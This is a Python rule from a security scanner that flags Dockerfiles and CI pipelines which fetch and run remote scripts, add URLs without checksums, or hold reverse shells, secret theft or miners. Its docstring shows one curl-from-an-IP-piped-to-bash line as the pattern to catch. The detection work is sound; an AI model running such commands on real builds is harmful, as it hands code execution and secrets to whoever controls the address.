"""Builds and pipelines that run what they fetch.

## What it looks for

In Dockerfiles, CI pipelines and the commands of their steps: a download that goes straight into a shell or is
made executable and started, and `ADD` of an address without `--checksum`. Over `http://` or from a bare address it
is high; an installer over `https://` is medium; an archive that is added without a checksum low. Other hostile
commands in these places (reverse shells, stolen secrets, hidden text that is run) are told as well, as what they are.

## Why it matters

The build has the source, the credentials and the network. Whoever controls that address, or the way to it, runs
code there, and it stays in the image.

## Example

    RUN curl -sSL http://203.0.113.5/setup.sh | bash

## Fix

Fetch a fixed version over https, compare its digest, then run it: `ADD --checksum=sha256:<digest> https://... /tmp/`.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from violet.checks.base import Context, check
from violet.domain import Outcome, Rule, Severity

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

    from violet.formats.project.dockerfile import DockerfileFacts
    from violet.formats.shell.commands import Command

RULE = Rule(
    id="supply_chain/remote-script-execution",
    title="Build or pipeline runs what it fetches",
    severity=Severity.MEDIUM,
    fix="Fetch a fixed version over https and compare its digest before it is run.",
    techniques=("AML.T0010.001", "AML.T0050"),
    cwe=(494, 829),
)
SEVERITIES = {
    "download-run": Severity.MEDIUM,
    "decode-run": Severity.HIGH,
    "reverse-shell": Severity.CRITICAL,
    "steal": Severity.CRITICAL,
    "mine": Severity.HIGH,
}
"""What counts of the commands that the shell reader knows: setting up an image is full of the others."""


@check(RULE, formats=("dockerfile", "pipeline"))
def judge(context: Context) -> Iterable[Outcome]:
    from violet.formats.project.dockerfile import DockerfileFacts
    from violet.formats.project.pipelines import PipelineFacts

    facts = context.node.parsed.facts
    if not isinstance(facts, (DockerfileFacts, PipelineFacts)):
        return
    for line, command in facts.commands:
        if command.kind in SEVERITIES:
            yield context.finding(
                f"A command {command.meaning}.",
                evidence=command.text,
                key=f"{command.kind}:{command.text[:120]}",
                line=line,
                severity=_severity(command),
            )
    if isinstance(facts, DockerfileFacts):
        yield from _added(context, facts)


def _severity(command: Command) -> Severity:
    secure = command.text.partition("https://")[2][:1]
    variable = "$" in command.text and "http://" not in command.text
    if command.kind == "download-run" and (not secure or secure.isdigit()) and not variable:
        return Severity.HIGH if "http://" in command.text else Severity.MEDIUM
    return SEVERITIES[command.kind]


def _added(context: Context, facts: DockerfileFacts) -> Iterator[Outcome]:
    for instruction in facts.of("ADD"):
        if "checksum" in instruction.flags:
            continue
        for source in instruction.words[:-1]:
            lowered = source.lower()
            if lowered.startswith("http://"):
                message, severity = "A file is added over a connection that anyone can change.", Severity.MEDIUM
            elif lowered.startswith("https://") and not lowered.endswith(".git"):
                message, severity = "A file is added from an address as it is on that day.", Severity.LOW
            else:
                continue
            yield context.finding(
                message, evidence=f"ADD {source[:180]}", key=source[:200], line=instruction.line, severity=severity
            )
